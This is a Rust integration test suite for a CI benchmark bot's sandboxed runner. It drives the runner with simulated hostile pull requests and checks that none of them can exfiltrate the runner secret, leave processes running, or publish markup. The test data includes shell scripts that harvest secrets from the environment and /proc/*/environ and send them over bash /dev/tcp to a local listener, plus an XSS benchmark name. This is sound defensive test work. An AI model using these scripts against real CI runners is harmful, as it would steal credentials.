//! Hostile pull requests against `runbenchmarks`, one test per attack, each driving the built
//! `battbot run-job --job battbot-job.json --out battbot-out` (relative, as the CI templates run
//! it) on a real local git repository, calling back a live callback recorder.

use std::io::Read;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use axum::body::Bytes;
use axum::extract::{Path as UrlPath, State};
use axum::http::HeaderMap;
use battbot::job::{BenchmarkJob, JobSource, JobSpec};
use battbot::runner::protocol;

const SECRET: &str = "s3cr3t-RUNNER-key-4242";

fn git(dir: &Path, args: &[&str]) -> String {
    let out = Command::new("git")
        .arg("-C")
        .arg(dir)
        .args(args)
        .env("GIT_AUTHOR_NAME", "t")
        .env("GIT_AUTHOR_EMAIL", "t@t")
        .env("GIT_COMMITTER_NAME", "t")
        .env("GIT_COMMITTER_EMAIL", "t@t")
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "git {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).trim().to_string()
}

/// A project whose `main` has `base_script` as bench.sh and whose pull request #1 has
/// `head_script`; `refs/pull/1/merge` exists when `merge_ref`.
fn project(dir: &Path, base_script: &str, head_script: &str, merge_ref: bool) -> PathBuf {
    let repo = dir.join("project");
    std::fs::create_dir_all(&repo).unwrap();
    git(&repo, &["init", "--quiet", "--initial-branch", "main"]);
    std::fs::write(repo.join("bench.sh"), base_script).unwrap();
    git(&repo, &["add", "-A"]);
    git(&repo, &["commit", "--quiet", "-m", "base"]);
    let base = git(&repo, &["rev-parse", "HEAD"]);
    git(&repo, &["checkout", "--quiet", "-b", "pr-1"]);
    std::fs::write(repo.join("bench.sh"), head_script).unwrap();
    git(
        &repo,
        &["commit", "--quiet", "--allow-empty", "-am", "pull request"],
    );
    let head = git(&repo, &["rev-parse", "HEAD"]);
    git(&repo, &["checkout", "--quiet", "main"]);
    git(&repo, &["update-ref", "refs/pull/1/head", &head]);
    if merge_ref {
        let tree = git(&repo, &["rev-parse", &format!("{head}^{{tree}}")]);
        let merge = git(
            &repo,
            &[
                "commit-tree",
                &tree,
                "-p",
                &base,
                "-p",
                &head,
                "-m",
                "merge",
            ],
        );
        git(&repo, &["update-ref", "refs/pull/1/merge", &merge]);
    }
    repo
}

/// Every callback received: kind, body, and whether its per-job signature held.
type Calls = Arc<Mutex<Vec<(String, Vec<u8>, bool)>>>;

async fn record(
    State(calls): State<Calls>,
    UrlPath((id, kind)): UrlPath<(String, String)>,
    headers: HeaderMap,
    body: Bytes,
) -> &'static str {
    let get = |n: &str| headers.get(n).and_then(|v| v.to_str().ok());
    let ok = protocol::verify_job(
        SECRET.as_bytes(),
        &id,
        get(protocol::TIMESTAMP_HEADER),
        get(protocol::SIGNATURE_HEADER),
        &body,
        time::OffsetDateTime::now_utc().unix_timestamp(),
        300,
    )
    .is_ok();
    calls.lock().unwrap().push((kind, body.to_vec(), ok));
    "{}"
}

/// A live callback recorder on 127.0.0.1.
async fn callback_server() -> (String, Calls) {
    let calls: Calls = Arc::default();
    let app = axum::Router::new()
        .route("/runner/v1/jobs/{id}/{kind}", axum::routing::post(record))
        .with_state(calls.clone());
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
    (url, calls)
}

/// A TCP listener on 127.0.0.1 keeping whatever anyone sends it.
fn tcp_trap() -> (u16, Arc<Mutex<Vec<u8>>>) {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let got: Arc<Mutex<Vec<u8>>> = Arc::default();
    let sink = got.clone();
    std::thread::spawn(move || {
        for mut conn in listener.incoming().flatten() {
            let mut buf = Vec::new();
            let _ = conn.set_read_timeout(Some(Duration::from_secs(2)));
            let _ = conn.read_to_end(&mut buf);
            sink.lock().unwrap().extend(b"<connection>");
            sink.lock().unwrap().extend(buf);
        }
    });
    (port, got)
}

struct Run {
    work: tempfile::TempDir,
    output: Output,
    elapsed: Duration,
    calls: Calls,
}

impl Run {
    fn kinds(&self) -> Vec<String> {
        self.calls
            .lock()
            .unwrap()
            .iter()
            .map(|c| c.0.clone())
            .collect()
    }

    fn body(&self, kind: &str) -> serde_json::Value {
        let calls = self.calls.lock().unwrap();
        let (_, body, signed) = calls
            .iter()
            .find(|c| c.0 == kind)
            .unwrap_or_else(|| panic!("no {kind} callback: {}", self.log()));
        assert!(
            *signed,
            "the {kind} callback is signed with the per-job key"
        );
        serde_json::from_slice(body).unwrap()
    }

    fn log(&self) -> String {
        format!(
            "exit {}\nstdout:\n{}\nstderr:\n{}",
            self.output.status,
            String::from_utf8_lossy(&self.output.stdout),
            String::from_utf8_lossy(&self.output.stderr)
        )
    }
}

fn job(url: &str, repo: &Path, merge_ref: bool, timeout_s: u64) -> JobSpec {
    let source = JobSource {
        platform: "github".into(),
        repo: "o/project".into(),
        number: 1,
        comment_id: 7,
        user: "mallory".into(),
        url: "https://example.invalid/pr/1".into(),
    };
    let mut spec = JobSpec::new(
        source,
        battbot::command::Command::Runbenchmarks,
        url,
        time::OffsetDateTime::now_utc(),
    );
    spec.benchmark = Some(BenchmarkJob {
        clone_url: repo.to_string_lossy().into(),
        head_ref: "refs/pull/1/head".into(),
        base_ref: if merge_ref {
            "refs/pull/1/merge".into()
        } else {
            "refs/pull/1/nonexistent-merge".into()
        },
        base_branch: None,
        command: "sh bench.sh".into(),
        repeat: 2,
        threshold_percent: 5.0,
        timeout_s,
    });
    spec
}

/// `BATTBOT_RUNNER_SECRET=… battbot run-job --job battbot-job.json --out battbot-out` in a
/// fresh directory, with `path` as PATH when given.
async fn run_job(spec: &JobSpec, secret: Option<&str>, path: Option<&str>, calls: Calls) -> Run {
    let work = tempfile::tempdir().unwrap();
    std::fs::write(work.path().join("battbot-job.json"), spec.to_json()).unwrap();
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_battbot"));
    cmd.args([
        "run-job",
        "--job",
        "battbot-job.json",
        "--out",
        "battbot-out",
    ])
    .current_dir(work.path())
    .env_remove("BATTBOT_RUNNER_SECRET")
    .env("RUST_LOG", "info");
    if let Some(s) = secret {
        cmd.env("BATTBOT_RUNNER_SECRET", s);
    }
    if let Some(p) = path {
        cmd.env("PATH", p);
    }
    let started = Instant::now();
    let output = tokio::task::spawn_blocking(move || cmd.output().unwrap())
        .await
        .unwrap();
    Run {
        work,
        output,
        elapsed: started.elapsed(),
        calls,
    }
}

/// Every file under `dir`, recursively (not following links).
fn files(dir: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).into_iter().flatten().flatten() {
            let t = e.file_type().unwrap();
            if t.is_dir() {
                stack.push(e.path());
            } else if t.is_file() {
                out.push(e.path());
            }
        }
    }
    out
}

/// Processes whose command line is exactly `sleep <seconds>`.
fn sleepers(seconds: &str) -> usize {
    let want = format!("sleep\0{seconds}\0");
    std::fs::read_dir("/proc")
        .unwrap()
        .flatten()
        .filter(|e| std::fs::read(e.path().join("cmdline")).is_ok_and(|c| c == want.as_bytes()))
        .count()
}

const BENIGN: &str = "#!/bin/sh\necho '{\"name\":\"busy\",\"seconds\":0.001}'\n";

fn sandbox_or_skip() -> bool {
    let ok = battbot::runner::sandbox::probe().is_ok();
    if !ok {
        assert!(
            std::env::var_os("CI").is_none(),
            "bubblewrap cannot start (hint: .ci/run installs the bubblewrap package)"
        );
        eprintln!("SKIPPED: bubblewrap cannot start here");
    }
    ok
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_pr_reading_its_env_and_every_proc_environ_leaks_the_secret_nowhere() {
    if !sandbox_or_skip() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let (port, trap) = tcp_trap();
    let evil = format!(
        r#"#!/bin/sh
S="$BATTBOT_RUNNER_SECRET"
F=$(for f in /proc/*/environ /proc/$PPID/environ; do tr '\0' '\n' < "$f"; done 2>/dev/null | grep BATTBOT_RUNNER_SECRET | tr -cd 'A-Za-z0-9_=-')
echo "$S $F" > /tmp/leak.txt; echo "$S $F" > "$HOME/leak.txt"; echo "$S $F" > leak.txt
echo "$S $F"; echo "$S $F" >&2
bash -c 'echo "$1" > /dev/tcp/127.0.0.1/{port}' _ "$S $F" 2>/dev/null
sleep 30157 &
echo "{{\"name\":\"env $S\",\"seconds\":0.002}}"
echo "{{\"name\":\"proc $(echo "$F" | head -c 90)\",\"seconds\":0.002}}"
echo '{{"name":"busy","seconds":0.002}}'
exit 0
"#
    );
    let repo = project(dir.path(), BENIGN, &evil, true);
    let (url, calls) = callback_server().await;
    let spec = job(&url, &repo, true, 60);
    let run = run_job(&spec, Some(SECRET), None, calls).await;
    assert!(run.output.status.success(), "{}", run.log());

    // The result arrived with base and head samples.
    assert_eq!(run.kinds().first().map(String::as_str), Some("started"));
    let result = run.body("result");
    let busy = result["benchmark"]["benchmarks"]
        .as_array()
        .unwrap()
        .iter()
        .find(|b| b["name"] == "busy")
        .expect("busy benchmark")
        .clone();
    assert_eq!(busy["base_s"].as_array().unwrap().len(), 2);
    assert_eq!(busy["head_s"].as_array().unwrap().len(), 2);
    // The PR ran (its own lines came back) but saw no secret: "env " alone.
    let names: Vec<&str> = result["benchmark"]["benchmarks"]
        .as_array()
        .unwrap()
        .iter()
        .map(|b| b["name"].as_str().unwrap())
        .collect();
    assert!(names.iter().any(|n| n.trim() == "env"), "{names:?}");

    // The secret is in no callback, no output file, not on run-job's stdout or stderr,
    // not in the host's /tmp, not on the TCP listener.
    for (kind, body, _) in run.calls.lock().unwrap().iter() {
        assert!(
            !String::from_utf8_lossy(body).contains(SECRET),
            "{kind} carries the secret"
        );
    }
    for f in files(run.work.path()) {
        let text = String::from_utf8_lossy(&std::fs::read(&f).unwrap()).into_owned();
        assert!(!text.contains(SECRET), "{} holds the secret", f.display());
    }
    assert!(
        !run.log().contains(SECRET),
        "run-job's output holds the secret"
    );
    let host_tmp = std::fs::read_to_string("/tmp/leak.txt").unwrap_or_default();
    assert!(!host_tmp.contains(SECRET), "/tmp/leak.txt holds the secret");
    std::thread::sleep(Duration::from_millis(300));
    let trapped = trap.lock().unwrap().clone();
    assert!(
        trapped.is_empty(),
        "the sandbox has no network: {}",
        String::from_utf8_lossy(&trapped)
    );
    // Nothing it started survives.
    assert_eq!(sleepers("30157"), 0, "a process of the PR survived");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_pr_printing_200_kb_does_not_block_until_the_timeout() {
    if !sandbox_or_skip() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let loud = "#!/bin/sh\nhead -c 200000 /dev/zero | tr '\\0' x\necho\nhead -c 200000 /dev/zero | tr '\\0' y >&2\necho '{\"name\":\"busy\",\"seconds\":0.001}'\n";
    let repo = project(dir.path(), BENIGN, loud, true);
    let (url, calls) = callback_server().await;
    let run = run_job(&job(&url, &repo, true, 60), Some(SECRET), None, calls).await;
    assert!(run.output.status.success(), "{}", run.log());
    assert!(run.elapsed < Duration::from_secs(30), "{:?}", run.elapsed);
    let result = run.body("result");
    assert_eq!(
        result["benchmark"]["benchmarks"][0]["head_s"]
            .as_array()
            .unwrap()
            .len(),
        2
    );
    // What it printed went nowhere but the CI log, and not even there when all went well.
    assert!(!String::from_utf8_lossy(&serde_json::to_vec(&result).unwrap()).contains("xxxx"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_pr_that_times_out_is_killed_with_its_background_sleep() {
    if !sandbox_or_skip() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let stuck = "#!/bin/sh\nsleep 30301 &\nsleep 30302\n";
    let repo = project(dir.path(), BENIGN, stuck, true);
    let (url, calls) = callback_server().await;
    let run = run_job(&job(&url, &repo, true, 2), Some(SECRET), None, calls).await;
    assert!(!run.output.status.success(), "{}", run.log());
    assert!(run.elapsed < Duration::from_secs(30), "{:?}", run.elapsed);
    let failure = run.body("failure");
    let error = failure["error"].as_str().unwrap();
    assert!(error.contains("did not finish within 2 s"), "{error}");
    assert_eq!(
        sleepers("30301") + sleepers("30302"),
        0,
        "the PR's sleep survived"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_background_sleep_left_by_the_pr_neither_survives_nor_delays_run_job() {
    if !sandbox_or_skip() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let lingering =
        "#!/bin/sh\nsleep 30401 &\nsleep 25 &\necho '{\"name\":\"busy\",\"seconds\":0.001}'\n";
    let repo = project(dir.path(), BENIGN, lingering, true);
    let (url, calls) = callback_server().await;
    let run = run_job(&job(&url, &repo, true, 60), Some(SECRET), None, calls).await;
    assert!(run.output.status.success(), "{}", run.log());
    assert!(run.elapsed < Duration::from_secs(20), "{:?}", run.elapsed);
    run.body("result");
    assert_eq!(sleepers("30401"), 0, "the PR's sleep survived run-job");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_failing_pr_publishes_none_of_its_output() {
    if !sandbox_or_skip() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    // The attack as reported: print the secret and every BATTBOT_RUNNER_SECRET= line of
    // /proc/*/environ, then fail (the failure used to quote stderr into the reply and report).
    let failing = r#"#!/bin/sh
F=$(cat /proc/*/environ 2>/dev/null | tr '\0' '\n' | grep BATTBOT_RUNNER_SECRET)
echo "$BATTBOT_RUNNER_SECRET $F" >&2
echo "$BATTBOT_RUNNER_SECRET $F"
echo 'stderr-marker-31337 <script>' >&2
echo stdout-marker-31337
exit 1
"#;
    let repo = project(dir.path(), BENIGN, failing, true);
    let (url, calls) = callback_server().await;
    let run = run_job(&job(&url, &repo, true, 60), Some(SECRET), None, calls).await;
    assert!(!run.output.status.success());
    let failure = run.body("failure");
    let text = failure.to_string();
    assert!(text.contains("failed on the head side"), "{text}");
    assert!(!text.contains("marker-31337"), "{text}");
    assert!(!run.log().contains(SECRET), "{}", run.log());
    for (kind, body, _) in run.calls.lock().unwrap().iter() {
        assert!(!String::from_utf8_lossy(body).contains(SECRET), "{kind}");
    }
    // The CI log (run-job's stderr) keeps it.
    assert!(
        String::from_utf8_lossy(&run.output.stderr).contains("stderr-marker-31337"),
        "{}",
        run.log()
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_pr_that_adds_a_benchmark_is_new_in_this_pr_not_nan() {
    if !sandbox_or_skip() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let head = "#!/bin/sh\necho '{\"name\":\"busy\",\"seconds\":0.001}'\necho '{\"name\":\"added\",\"seconds\":0.003}'\n";
    let repo = project(dir.path(), BENIGN, head, true);
    let (url, calls) = callback_server().await;
    let spec = job(&url, &repo, true, 60);
    let run = run_job(&spec, Some(SECRET), None, calls).await;
    assert!(run.output.status.success(), "{}", run.log());
    let result: protocol::RunResult = serde_json::from_value(run.body("result")).unwrap();
    // The report the app builds from it (the callback that used to be a 400).
    let built = battbot::report::success(
        &spec,
        &result,
        "runbenchmarks",
        time::OffsetDateTime::now_utc(),
    )
    .unwrap();
    let report = String::from_utf8_lossy(
        &built
            .files
            .iter()
            .find(|f| f.path.ends_with("report.md"))
            .unwrap()
            .contents,
    )
    .into_owned();
    assert!(report.contains("🆕 new in this PR"), "{report}");
    assert!(!report.to_lowercase().contains("nan"), "{report}");
    let summary = serde_json::to_string(&built.summary).unwrap();
    assert!(
        summary.contains("new in this PR") && !summary.contains("NaN"),
        "{summary}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_missing_merge_ref_falls_back_to_the_base_branch() {
    if !sandbox_or_skip() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let repo = project(dir.path(), BENIGN, BENIGN, false);
    let main = git(&repo, &["rev-parse", "main"]);
    let (url, calls) = callback_server().await;
    // The base branch named in the job.
    let mut spec = job(&url, &repo, false, 60);
    spec.benchmark.as_mut().unwrap().base_branch = Some("main".into());
    let run = run_job(&spec, Some(SECRET), None, calls).await;
    assert!(run.output.status.success(), "{}", run.log());
    assert_eq!(run.body("result")["benchmark"]["base_sha"], main.as_str());
    // None named: the repository's default branch.
    let (url, calls) = callback_server().await;
    let run = run_job(&job(&url, &repo, false, 60), Some(SECRET), None, calls).await;
    assert!(run.output.status.success(), "{}", run.log());
    assert_eq!(run.body("result")["benchmark"]["base_sha"], main.as_str());
}

/// A PATH holding what run-job and the benchmark need, but no bwrap.
fn path_without_bwrap(dir: &Path) -> String {
    let bin = dir.join("bin");
    std::fs::create_dir_all(&bin).unwrap();
    for tool in ["sh", "git", "echo", "cat"] {
        let found = Command::new("sh")
            .args(["-c", &format!("command -v {tool}")])
            .output()
            .unwrap();
        let target = String::from_utf8_lossy(&found.stdout).trim().to_string();
        if target.starts_with('/') {
            std::os::unix::fs::symlink(target, bin.join(tool)).unwrap();
        }
    }
    bin.to_string_lossy().into_owned()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn without_a_sandbox_a_runner_holding_the_secret_refuses_to_run_pr_code() {
    let dir = tempfile::tempdir().unwrap();
    let marker = dir.path().join("ran");
    let evil = format!(
        "#!/bin/sh\necho ran > {}\necho '{{\"name\":\"busy\",\"seconds\":0.001}}'\n",
        marker.display()
    );
    let repo = project(dir.path(), &evil, &evil, true);
    let path = path_without_bwrap(dir.path());
    let (url, calls) = callback_server().await;
    let run = run_job(
        &job(&url, &repo, true, 60),
        Some(SECRET),
        Some(&path),
        calls,
    )
    .await;
    assert!(!run.output.status.success(), "{}", run.log());
    let failure = run.body("failure");
    let error = failure["error"].as_str().unwrap();
    assert!(
        error.contains("refusing to run pull-request code"),
        "{error}"
    );
    assert!(!marker.exists(), "the PR's code ran");

    // Without the secret (the CI job that has none), it runs bare and leaves the body for
    // the publishing job.
    let (url, calls) = callback_server().await;
    let run = run_job(&job(&url, &repo, true, 60), None, Some(&path), calls).await;
    assert!(run.output.status.success(), "{}", run.log());
    assert!(run.kinds().is_empty(), "no secret, no callback");
    assert!(marker.exists());
    let body = run.work.path().join("battbot-out/callback/result.json");
    assert!(body.is_file(), "{}", run.log());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn publish_posts_only_a_body_that_passes_the_schema() {
    let dir = tempfile::tempdir().unwrap();
    let repo = project(dir.path(), BENIGN, BENIGN, true);
    let (url, calls) = callback_server().await;
    let spec = job(&url, &repo, true, 60);
    let work = tempfile::tempdir().unwrap();
    std::fs::write(work.path().join("battbot-job.json"), spec.to_json()).unwrap();
    let dir_of_job = work.path().to_path_buf();
    let publish = move |calls: Calls| {
        let out = Command::new(env!("CARGO_BIN_EXE_battbot"))
            .args([
                "run-job",
                "--job",
                "battbot-job.json",
                "--out",
                "battbot-out",
                "--publish",
            ])
            .current_dir(&dir_of_job)
            .env("BATTBOT_RUNNER_SECRET", SECRET)
            .output()
            .unwrap();
        (out, calls)
    };
    let cb = work.path().join("battbot-out/callback");
    std::fs::create_dir_all(&cb).unwrap();
    // A body a PR rewrote: a benchmark name that is markup.
    let body = serde_json::json!({
        "job_id": spec.id.as_str(), "battbot_version": "x", "runs": [], "artifacts": [],
        "benchmark": {"base_sha": "abcdef1", "head_sha": "abcdef2", "benchmarks": [
            {"name": "<img src=x onerror=alert(1)>", "base_s": [1.0], "head_s": [1.0]}]}
    });
    std::fs::write(cb.join("result.json"), body.to_string()).unwrap();
    let (out, calls) = tokio::task::spawn_blocking(move || publish(calls))
        .await
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let got = calls.lock().unwrap().clone();
    assert_eq!(got.len(), 1);
    assert_eq!(got[0].0, "failure");
    assert!(got[0].2, "signed with the per-job key");
    let text = String::from_utf8_lossy(&got[0].1);
    assert!(text.contains("invalid benchmark name"), "{text}");
}

#[tokio::test]
async fn a_callback_signed_with_the_shared_secret_is_refused_saying_why() {
    use crate::support::{TestBot, RUNNER_SECRET};
    let bot = TestBot::new().await;
    let body = br#"{"job_id":"gh-o-r-1-c1","runner":"x","battbot_version":"0"}"#;
    let sig = protocol::sign(RUNNER_SECRET.as_bytes(), bot.now(), body);
    let req = axum::http::Request::post("/runner/v1/jobs/gh-o-r-1-c1/started")
        .header("x-battbot-timestamp", bot.now().to_string())
        .header("x-battbot-signature", sig)
        .body(axum::body::Body::from(body.to_vec()))
        .unwrap();
    let (code, text) = bot.send(req).await;
    assert_eq!(code, axum::http::StatusCode::UNAUTHORIZED, "{text}");
    assert!(text.contains("upgrade battbot on the runner"), "{text}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_runner_refuses_a_job_spec_newer_than_it_knows() {
    let dir = tempfile::tempdir().unwrap();
    let repo = project(dir.path(), BENIGN, BENIGN, true);
    let (url, calls) = callback_server().await;
    let mut spec = job(&url, &repo, true, 60);
    spec.version = battbot::job::JOB_SPEC_VERSION + 1;
    let run = run_job(&spec, Some(SECRET), None, calls).await;
    assert!(!run.output.status.success());
    assert!(
        String::from_utf8_lossy(&run.output.stderr).contains("upgrade battbot on the runner"),
        "{}",
        run.log()
    );
    assert!(run.kinds().is_empty());
}
